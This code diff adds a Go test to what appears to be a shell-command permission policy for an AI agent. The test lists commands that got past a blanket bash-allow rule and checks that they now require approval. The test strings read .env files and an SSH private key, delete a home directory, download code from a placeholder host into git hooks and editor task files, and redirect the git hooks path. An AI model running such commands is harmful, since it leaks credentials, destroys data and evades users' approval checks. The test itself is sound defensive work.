@@ -498,3 +498,35 @@ func BenchmarkShellThousandWords(b *testing.B) {
 		policy.Decide(plan)
 	}
 }
+
+// Each of these ran without a question under `bash *: allow`, and read or wrote
+// what the rule does not cover.
+func TestBypassesOfFilesInPrograms(t *testing.T) {
+	facts := baseFacts(allowBash("*")...)
+	for command, want := range map[string]Verdict{
+		`awk 'BEGIN{while((getline l < ".env")>0) print l}'`:     Ask,
+		`sed -n 'r .env' a.go`:                                   Ask,
+		`python3 -c 'print(open(".env").read())'`:                Ask,
+		`node -e 'require("fs").readFileSync("src/.env.local")'`: Ask,
+		`sg x -c 'cat .env'`:                                     Ask,
+		`cat ~u/.ssh/id_rsa`:                                     Ask,
+		`rm -rf ~root`:                                           Ask,
+		`wget -O .git/hooks/post-merge http://x`:                 Ask,
+		`curl http://x --output=.envrc`:                          Ask,
+		`curl http://x -o .vscode/tasks.json`:                    Ask,
+		`git config core.hooksPath x`:                            Ask,
+		`git config --unset core.bare`:                           Ask,
+
+		`git config --get user.name`:         Allow,
+		`git config user.name`:               Allow,
+		`awk '{print $1}' a.go`:              Allow,
+		`python3 -c 'print(1)'`:              Allow,
+		`curl http://x -o out.txt`:           Allow,
+		`git log HEAD~1`:                     Allow,
+		`git commit -m "mention .env files"`: Allow,
+	} {
+		if d := decide(facts, bashPlan(command)); d.Verdict != want {
+			t.Errorf("%s: %v (%s)", command, d.Verdict, d.Reason)
+		}
+	}
+}
